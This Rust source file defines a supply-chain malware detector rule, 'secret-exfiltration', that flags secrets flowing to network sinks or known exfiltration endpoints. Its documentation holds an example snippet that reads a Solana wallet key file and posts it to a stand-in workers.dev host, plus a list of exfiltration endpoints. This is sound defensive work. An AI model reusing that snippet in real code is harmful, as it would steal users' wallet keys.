use super::{exfil_destination, is_identity, secret_source};
use crate::facts::{Cap, SinkKind};
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo, in_context};

pub static INFO: RuleInfo = RuleInfo {
    code: "EXF001",
    name: "secret-exfiltration",
    family: Family::Exfiltration,
    severity: Severity::Critical,
    summary: "a secret (keys, credentials, wallet files, env secrets) flows to the network",
    doc: "## What it detects\nA secret source reaching a network sink: the value of a secret-named environment variable, the whole environment, the contents of a credential/key/wallet/.env file, or matches of a key-hunting regex, flowing (through variables, helper functions, `push`/`format!`) into a request body, URL, query, socket write or DNS name. Also a secret source together with a known exfiltration endpoint (Telegram bot API, Discord webhook, `*.workers.dev`, `*.vercel.app`, a bare IP) in the same crate, even where the flow is not traced.\n\n## Why\nThis is the payload of faster_log, finch-rst/sha-rust, logs-update and the polymarket campaign: read keys or tokens, send them out.\n\n## Example\n```rust\nlet k = fs::read_to_string(home.join(\".config/solana/id.json\"))?;\nreqwest::blocking::Client::new().post(\"https://rpc-pool.workers.dev\").body(k).send()?;\n```\n\n## Known false positives\nClients that send a token as an `Authorization` header to their own service are not reported (a header is how credentials are used); a tool that uploads a secret to a user-configured server on purpose is (add an ignore with a reason).",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        let f = i.facts;
        let runtime_dest = f.evidence(|c| !c.dev_only()).find_map(|(_, e)| exfil_destination(&e.cap));
        let mut reported = false;
        for file in &f.files {
            for flow in &file.flows {
                if flow.source == "a parameter" || is_identity(&flow.source) {
                    continue;
                }
                if flow.sink_kind == SinkKind::Header && runtime_dest.is_none() {
                    continue;
                }
                let to = runtime_dest.as_deref().map(|d| format!(", toward {d}")).unwrap_or_default();
                out.push(Hit::new(
                    in_context(Severity::Critical, file.context),
                    &file.path,
                    flow.line,
                    format!("{} (line {}) flows into {} in `{}`{to}", flow.source, flow.source_line, flow.sink, flow.func),
                ));
                reported = true;
                break;
            }
        }
        if reported {
            return;
        }
        // No traced flow: a secret source plus an exfiltration endpoint and a network API.
        let live = |c: crate::context::FileContext| !c.dev_only();
        let source = f.evidence(live).find_map(|(file, e)| secret_source(&e.cap).map(|s| (file, e, s)));
        let dest = f.evidence(live).find_map(|(file, e)| exfil_destination(&e.cap).map(|d| (file, e, d)));
        let net = f.evidence(live).any(|(_, e)| matches!(e.cap, Cap::Network { .. } | Cap::Process { downloader: true, .. }));
        if let (Some((sf, se, s)), Some((df, de, d)), true) = (source, dest, net) {
            out.push(Hit::new(
                Severity::Critical,
                &sf.path,
                se.line,
                format!("reads {s} and sends to {d} ({}:{})", df.path, de.line),
            ));
        }
    }
}
